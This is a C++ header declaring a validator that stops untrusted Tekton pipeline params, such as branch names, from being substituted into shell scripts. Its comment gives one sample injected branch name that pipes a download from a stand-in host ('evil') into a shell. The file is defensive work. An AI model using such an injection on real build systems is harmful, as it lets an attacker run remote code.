// Untrusted values stay data: a run param that carries a value someone
// outside the team controls (a pushed branch's name, a commit's author) may
// reach a step only through `env` (or a file), never pasted into text a
// shell reads. Tekton substitutes $(params.x) into a step's script before
// the shell sees it, so a branch named `x$(curl evil|sh)` in a script is a
// command; in an env value it is a string.
//
// CheckUntrusted follows each such param from the PipelineRun through the
// Pipeline's tasks (their params, and params an embedded taskSpec reads
// directly) into every step, sidecar and stepTemplate, and refuses a
// reference in `script`, or in the command and args of a step whose command
// is a shell. The error names the step's file:line:col and shows the env
// form. Pure.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "base/result.h"
#include "model/resource.h"

namespace strake::pipeline {

// `untrusted`: run param name -> what it carries, for the message ("{{source_branch}}").
Status CheckUntrusted(const model::PipelineRun& run, const std::vector<model::Resource>& resources,
                      const std::map<std::string, std::string>& untrusted);

}  // namespace strake::pipeline
